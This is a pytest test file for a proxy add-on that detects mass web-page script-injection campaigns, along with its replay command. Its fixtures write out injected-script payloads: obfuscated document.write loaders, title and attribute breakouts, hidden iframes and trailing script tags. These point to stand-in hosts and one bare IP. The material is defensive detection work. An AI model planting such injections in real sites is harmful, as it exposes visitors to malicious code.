"""Campaign detection: positions read from real page shapes, the decision, its hard
negatives, bounded state, and the replay command."""

from __future__ import annotations

import json
import subprocess
import sys
from pathlib import Path

import pytest

from proxy_addons.core.campaign import CampaignDetector, Reference, references

DATA = Path(__file__).parent.parent / "data" / "html"
JECTGUARD = Path(sys.executable).with_name("jectguard")
CT = "text/html; charset=utf-8"


def page(
    head: str = "", body: str = "", before: str = "", after: str = "", title: str = "T"
) -> bytes:
    return (
        f"{before}<!DOCTYPE html><html><head><title>{title}</title>{head}</head>"
        f"<body><p>hello</p>{body}</body></html>{after}"
    ).encode()


def positions(body: bytes, url: str = "https://www.shop.example/") -> dict[str, set[str]]:
    out: dict[str, set[str]] = {}
    for r in references(body, CT, url):
        out.setdefault(r.host, set()).update(r.positions)
    return out


def test_download_ject_footer_after_html() -> None:
    got = positions((DATA / "downloadject.html").read_bytes(), "http://intranet.corp.example/")
    assert got["217.107.218.147"] >= {"after-end", "written"}


@pytest.mark.parametrize(
    "body, host, want",
    [
        # Gumblar: obfuscated script at the very top, before <html>
        (page(before="<script>document.write('<scr'+'ipt src=http://gumblar.example/x.js></scr'+'ipt>')</script>"),
         "gumblar.example", {"before-start", "written"}),
        # LizaMoon: </title><script src=...> in a title field: the rest of the field follows
        (page(title="Shop </title><script src=http://lizamoon.example/ur.php></script>"),
         "lizamoon.example", {"breaks-out"}),
        # 2008 SQL injection: appended to every text field
        (page(title="A<script src=http://nihao.example/1.js></script>",
              body="<td>x<script src=http://nihao.example/1.js></script></td>"
                   "<td>y<script src=http://nihao.example/1.js></script></td>"),
         "nihao.example", {"in-text", "repeated"}),
        # an attribute broken out of
        (page(body='<input value="q"><script src=http://attr.example/a.js></script>">'),
         "attr.example", {"breaks-out"}),
        (page(body='<iframe src="http://198.51.100.7/x" width=1 height=1></iframe>'),
         "198.51.100.7", {"hidden-frame"}),
    ],
)  # fmt: skip
def test_injection_positions(body: bytes, host: str, want: set[str]) -> None:
    assert positions(body)[host] >= want


def test_where_tags_belong_is_not_anomalous() -> None:
    body = page(
        head='<script async src="https://t.newanalytics.example/tag.js?id=123"></script>'
        '<link rel="stylesheet" href="https://cdn.x.example/s.css"><script src="https://cdn.x.example/w.js"></script>',
        body='<script src="https://ads.example/ad.js"></script>'  # just before </body>: ad networks
        "<script>var s=document.createElement('script');s.src='https://w.example/l.js';</script>",
    )
    refs = references(body, CT, "https://www.shop.example/")
    assert {r.host for r in refs} >= {
        "t.newanalytics.example",
        "cdn.x.example",
        "ads.example",
        "w.example",
    }
    assert not [r for r in refs if r.anomalous]
    # first-party references are never counted
    assert not references(page(after='<script src="/x.js"></script>'), CT, "https://shop.example/")


def test_weak_positions_alone_are_not_anomalous_unless_toward_a_bare_ip() -> None:
    assert not Reference("ads.example", "script", frozenset({"written"}), "s").anomalous
    assert not Reference("px.example", "iframe", frozenset({"hidden-frame"}), "s").anomalous
    assert Reference("203.0.113.5", "script", frozenset({"written"}), "s").anomalous
    assert Reference("x.example", "script", frozenset({"written", "hidden-frame"}), "s").anomalous


def detector(**kw: float) -> CampaignDetector:
    d = CampaignDetector(warmup_seconds=kw.pop("warmup_seconds", 0), warmup_views=0, **kw)  # type: ignore[arg-type]
    d.observe(0.0, "https://first.example/", [])
    return d


def infect(
    d: CampaignDetector, n: int, start: float = 100.0, host: str = "bad.example"
) -> list[int]:
    flagged = []
    for i in range(n):
        body = page(after=f"<script src=http://{host}/x.js></script>")
        url = f"https://www.site{i}.example/"
        if d.observe(start + i, url, references(body, CT, url)):
            flagged.append(i)
    return flagged


def test_flagged_at_the_third_unrelated_site() -> None:
    assert infect(detector(), 6) == [2]


def test_one_site_many_pages_is_not_a_campaign() -> None:
    d = detector()
    body = page(after="<script src=http://bad.example/x.js></script>")
    for i in range(50):
        url = f"https://sub{i}.onesite.example/p{i}"  # one registrable domain
        assert not d.observe(100.0 + i, url, references(body, CT, url))


def test_a_host_from_the_baseline_is_never_new() -> None:
    d = CampaignDetector(warmup_seconds=1000, warmup_views=0)
    url = "https://old.example/"
    d.observe(
        0.0, url, references(page(after="<script src=http://bad.example/x.js></script>"), CT, url)
    )
    assert infect(d, 10, start=2000.0) == []


def test_established_after_the_window() -> None:
    d = detector(window=50.0)
    d.observe(
        10.0,
        "https://a.example/",
        references(
            page(body="<script src=http://bad.example/x.js></script>"), CT, "https://a.example/"
        ),
    )
    assert infect(d, 10, start=100.0) == []  # first seen at 10, odd only after the window


def test_a_normal_rollout_with_a_few_sloppy_sites_is_not_flagged() -> None:
    d = detector()
    t = 100.0
    for i in range(40):  # rolled out normally to 40 sites...
        url = f"https://www.normal{i}.example/"
        body = page(head="<script src=https://new.vendor.example/t.js></script>")
        assert not d.observe(t, url, references(body, CT, url))
        t += 1
    for i in range(5):  # ...and five sloppy templates put it after </html>
        url = f"https://www.sloppy{i}.example/"
        body = page(after="<script src=https://new.vendor.example/t.js></script>")
        assert not d.observe(t, url, references(body, CT, url))
        t += 1


def test_common_third_parties_are_ignored() -> None:
    d = detector()
    for i in range(10):
        url = f"https://www.s{i}.example/"
        body = page(after="<script src=https://www.googletagmanager.com/gtm.js></script>")
        assert not d.observe(100.0 + i, url, references(body, CT, url))


def test_state_is_bounded() -> None:
    d = CampaignDetector(warmup_seconds=0, warmup_views=0, max_hosts=100)
    for i in range(1000):
        url = f"https://www.s{i}.example/"
        d.observe(float(i), url, [Reference(f"h{i}.other{i}.example", "script", frozenset(), "s")])
    assert len(d) == 100


def test_replay_command(tmp_path: Path) -> None:
    trace = tmp_path / "t.jsonl"
    lines = []
    for i in range(5):
        body = page(
            after="<script>document.write('<scr'+'ipt src=http://217.107.218.147/dot.php></scr'+'ipt>')</script>"
        )
        lines.append(json.dumps({"time": f"2026-12-01T00:0{i}:00Z", "client": "10.0.0.1",
                                 "url": f"http://www.site{i}.example/", "content_type": CT,
                                 "body": body.decode()}))  # fmt: skip
    trace.write_text("\n".join(lines) + "\n")
    res = subprocess.run(
        [str(JECTGUARD), "hunt", "replay", str(trace), "--json", "--warmup-views", "0", "--warmup-hours", "0"],
        capture_output=True, text=True, timeout=60,
    )  # fmt: skip
    assert res.returncode == 0, res.stderr
    (f,) = [json.loads(line) for line in res.stdout.splitlines()]
    assert f["event"] == "campaign" and f["host"] == "217.107.218.147"
    assert f["flagged_at"] == "2026-12-01T00:02:00Z" and f["first_seen"] == "2026-12-01T00:00:00Z"
    assert f["sites"] == ["site0.example", "site1.example", "site2.example"] and f["pages"] == 3
    assert f["score"] > 3 and any("bare IP" in e for e in f["evidence"])


@pytest.mark.parametrize(
    "line, message",
    [
        ("not json", "line 2: not JSON"),
        ('{"time": "2026-12-01T00:00:00Z", "body": "x"}', "line 2: 'url' missing"),
        (
            '{"time": "yesterday", "url": "http://a.example/", "body": "x"}',
            "line 2: 'time' is not RFC 3339",
        ),
        (
            '{"time": "2026-12-01T00:00:00", "url": "http://a.example/", "body": "x"}',
            "no time zone",
        ),
        (
            '{"time": "2026-12-01T00:00:00Z", "url": "http://a.example/", "body_b64": "!!"}',
            "not base64",
        ),
        ('{"time": "2026-12-01T00:00:00Z", "url": "http://a.example/"}', "needs 'body'"),
    ],
)
def test_replay_bad_input_names_the_line(tmp_path: Path, line: str, message: str) -> None:
    good = json.dumps({"time": "2026-12-01T00:00:00Z", "url": "http://a.example/", "body": "<p>x"})
    trace = tmp_path / "t.jsonl"
    trace.write_text(good + "\n" + line + "\n")
    res = subprocess.run(
        [str(JECTGUARD), "hunt", "replay", str(trace)], capture_output=True, text=True, timeout=60
    )
    assert res.returncode == 2 and message in res.stderr, res.stderr


def test_hosts_longer_than_a_dns_name_are_not_kept() -> None:
    """A page chooses its hosts: 64 KB names, 200,000 of them kept, would be ~13 GB
    (and written to the state file). No client can reach such a host: not kept."""
    long_host = ".".join(["a" * 60] * 5) + ".example"  # 313 characters
    body = (
        f"<html><body><script src=http://{long_host}/x.js></script>"
        "<script src=http://ok.example/x.js></script></body></html>"
    ).encode()
    hosts = {r.host for r in references(body, "text/html", "http://site.test/")}
    assert hosts == {"ok.example"}
